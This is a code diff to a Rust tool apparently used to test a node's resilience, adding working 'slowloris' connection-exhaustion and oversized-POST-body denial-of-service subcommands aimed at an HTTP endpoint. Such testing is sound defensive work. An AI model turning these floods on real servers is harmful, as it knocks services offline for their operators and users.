@@ -12,6 +12,11 @@
 //! - `sync-flood MULTIADDR GENESIS_HEX INFLIGHT SECS`: one identity sends block-sync requests
 //!   for the widest range as fast as the target answers, INFLIGHT at a time; prints requests
 //!   sent, answered and failed.
+//! - `slowloris ADDR COUNT SECS`: keeps COUNT HTTP connections to ADDR (ip:port) sending a
+//!   request's headers one byte a second, re-opening those the server closes; prints how
+//!   many the server closed and how many were open at the end.
+//! - `big-body ADDR BYTES`: POSTs a transaction body of BYTES bytes to ADDR's `/tx`; prints
+//!   the status the server answered (0 if none) and how many body bytes it took first.
 
 use std::collections::HashSet;
 use std::io::Read;
@@ -30,6 +35,8 @@ fn main() {
         Some("tcp-hold") => tcp_hold(&args[1..]),
         Some("libp2p-hold") => run_async(libp2p_hold(&args[1..])),
         Some("sync-flood") => run_async(sync_flood(&args[1..])),
+        Some("slowloris") => slowloris(&args[1..]),
+        Some("big-body") => big_body(&args[1..]),
         _ => {
             Err("usage: pov-attack tcp-hold|libp2p-hold|sync-flood ARGS... (see the source)".into())
         }
@@ -81,6 +88,89 @@ fn tcp_hold(args: &[String]) -> Result<()> {
         }
     }
     println!("tcp-hold: opened {opened}, failed {failed}, still open {open}");
+    Ok(())
+}
+
+/// Many connections, each dribbling out a request's headers.
+fn slowloris(args: &[String]) -> Result<()> {
+    use std::io::Write;
+    let addr: SocketAddr = arg(args, 0, "ADDR")?;
+    let count: usize = arg(args, 1, "COUNT")?;
+    let secs: u64 = arg(args, 2, "SECS")?;
+    let open = |_: usize| -> Option<TcpStream> {
+        let mut stream = TcpStream::connect_timeout(&addr, Duration::from_secs(2)).ok()?;
+        stream.set_nodelay(true).ok()?;
+        stream
+            .write_all(b"GET /status HTTP/1.1\r\nHost: x\r\n")
+            .ok()?;
+        Some(stream)
+    };
+    let mut streams: Vec<Option<TcpStream>> = (0..count).map(open).collect();
+    let deadline = Instant::now() + Duration::from_secs(secs);
+    let mut closed = 0u64;
+    while Instant::now() < deadline {
+        for slot in &mut streams {
+            let alive = match slot {
+                Some(stream) => {
+                    stream.write_all(b"X").is_ok()
+                        && {
+                            // The server hung up if a read returns EOF or an error right away.
+                            let _ = stream.set_nonblocking(true);
+                            let mut byte = [0u8; 256];
+                            let gone = !matches!(stream.read(&mut byte), Err(ref e) if e.kind() == std::io::ErrorKind::WouldBlock);
+                            let _ = stream.set_nonblocking(false);
+                            !gone
+                        }
+                }
+                None => false,
+            };
+            if !alive {
+                if slot.is_some() {
+                    closed += 1;
+                }
+                *slot = open(0);
+            }
+        }
+        std::thread::sleep(Duration::from_secs(1));
+    }
+    let open_now = streams.iter().filter(|s| s.is_some()).count();
+    println!("slowloris: closed by server {closed}, open at end {open_now}");
+    Ok(())
+}
+
+/// One oversized request body.
+fn big_body(args: &[String]) -> Result<()> {
+    use std::io::Write;
+    let addr: SocketAddr = arg(args, 0, "ADDR")?;
+    let bytes: usize = arg(args, 1, "BYTES")?;
+    let mut stream = TcpStream::connect_timeout(&addr, Duration::from_secs(2))
+        .map_err(|e| format!("connect: {e}"))?;
+    stream
+        .set_read_timeout(Some(Duration::from_secs(10)))
+        .map_err(|e| format!("socket: {e}"))?;
+    let head = format!(
+        "POST /tx HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {bytes}\r\n\r\n"
+    );
+    stream
+        .write_all(head.as_bytes())
+        .map_err(|e| format!("write: {e}"))?;
+    let chunk = vec![b' '; 64 * 1024];
+    let mut sent = 0usize;
+    while sent < bytes {
+        let n = chunk.len().min(bytes - sent);
+        if stream.write_all(&chunk[..n]).is_err() {
+            break;
+        }
+        sent += n;
+    }
+    let mut answer = String::new();
+    let _ = stream.read_to_string(&mut answer);
+    let status = answer
+        .split_whitespace()
+        .nth(1)
+        .and_then(|s| s.parse::<u16>().ok())
+        .unwrap_or(0);
+    println!("big-body: status {status}, body bytes sent {sent}");
     Ok(())
 }
 
